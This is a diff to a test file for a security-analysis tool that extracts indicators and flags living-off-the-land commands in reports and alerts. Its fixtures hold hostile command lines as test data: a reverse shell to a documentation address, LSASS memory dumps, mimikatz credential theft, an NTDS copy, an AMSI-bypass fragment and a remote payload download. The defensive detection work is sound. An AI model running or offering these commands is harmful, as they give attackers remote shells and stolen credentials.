@@ -2,7 +2,7 @@
 import { expect, test } from 'vitest';
 import { agents } from '../../agents/index.ts';
 import { Alert, rulesPlanner, SPECIALIST_OF, type Situation } from '../../orchestrator/plan.ts';
-import { scriptOf } from '../../orchestrator/script.ts';
+import { commandsUnread, scriptOf } from '../../orchestrator/script.ts';
 import type { InputKind } from '../../protocol/index.ts';
 import { resultOf } from '../support/result.ts';
 
@@ -48,10 +48,10 @@ test('the URLs that a text names are taken apart too where somebody offers that,
 });
 
 test('the commands of a script go to who judges commands, beside the text', () => {
-  const commands = ['bash -i >& /dev/tcp/198.51.100.2/4444 0>&1'];
-  const asked = rulesPlanner.next({ ...situation(), kind: 'report', commands });
+  const text = 'bash -i >& /dev/tcp/198.51.100.2/4444 0>&1';
+  const asked = rulesPlanner.next({ ...situation(), kind: 'report', commands: [{ text, line: 3 }] });
   expect(asked.map(({ skill }) => skill)).toEqual(['extract_iocs', 'check_lolbins']);
-  expect(asked[1]?.params).toEqual({ commands });
+  expect(asked[1]?.params).toEqual({ commands: [text], origins: [{ source: 'a', locator: 'line 3' }] });
 });
 
 test.each([
@@ -59,10 +59,40 @@ test.each([
   ['rev.sh', 'bash -i >& /dev/tcp/198.51.100.2/4444 0>&1', 1],
   ['a.txt', '#!/bin/sh\n# hello\nfoo\nbar', 2],
   ['a.bat', '@echo off\r\nrem x\r\nstart a.exe\r\n', 1],
+  ['a.txt', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full', 1],
+  ['a.txt', 'regsvr32.exe \\\\203.0.113.9\\share\\evil.dll', 1],
+  ['a.txt', 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', 1],
+  ['a.txt', 'procdump64.exe -accepteula -ma lsass.exe C:\\temp\\l.dmp', 1],
+  ['a.txt', 'ntdsutil.exe "ac i ntds" "ifm" "create full c:\\temp" q q', 1],
+  ['a.txt', "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", 1],
+  ['a.txt', "(New-Object Net.WebClient).DownloadFile('http://203.0.113.9/x.exe','x.exe')", 1],
+  ['a.txt', 'mimikatz.exe was found in C:\\temp by the scanner.', undefined],
+  ['a.txt', '[1] The report of the vendor (New-Object is a cmdlet)', undefined],
   ['a.txt', 'The actor ran:\nwhoami\nand then left the host.', undefined],
   ['a.txt', 'curl was used with -x here.', undefined],
 ])('%s with %j is a script of so many commands: %s', (name, text, count) => {
   expect(scriptOf(Buffer.from(text), name, 65_536)?.commands.length).toBe(count);
+});
+
+test('a line that looks like a command in a text that is no script is told as unread, and prose is not', () => {
+  const report = ['The host was slow.', 'We found this:', '', 'evil.exe /install', 'and cleaned it up.', ''];
+  expect(scriptOf(Buffer.from(report.join('\n')), 'a.txt', 65_536)).toBeUndefined();
+  expect(commandsUnread(Buffer.from(report.join('\n')))).toMatchObject([
+    { what: '1 line that looks like a command, the first in line 4' },
+  ]);
+  expect(commandsUnread(Buffer.from('The host was slow.\nNobody knows why - we looked.\n'))).toEqual([]);
+});
+
+test('what a text names is cited where it stands: a URL by its line, a command line of an alert by its field', () => {
+  const extracted = [{ type: 'url', value: 'http://example.com/1', line: 7 }];
+  const settled = new Map([
+    ['text', { ...resultOf({ iocs: [{ type: 'url', value: 'http://example.com/1' }] }), extracted }],
+  ]);
+  const url = rulesPlanner.next({ ...situation(), kind: 'report', settled, offers: (name) => name === 'analyze_url' });
+  expect(url[0]?.params['origin']).toEqual({ source: 'a', locator: 'line 7' });
+  const alert = Alert.parse({ command_line: 'whoami /all' });
+  const [step] = rulesPlanner.next({ ...situation(), kind: 'alert', alert });
+  expect(step?.params['origins']).toEqual([{ source: 'a', locator: '/command_line' }]);
 });
 
 test('every skill that a plan asks for is offered by the specialist that is said to be missing without it', async () => {
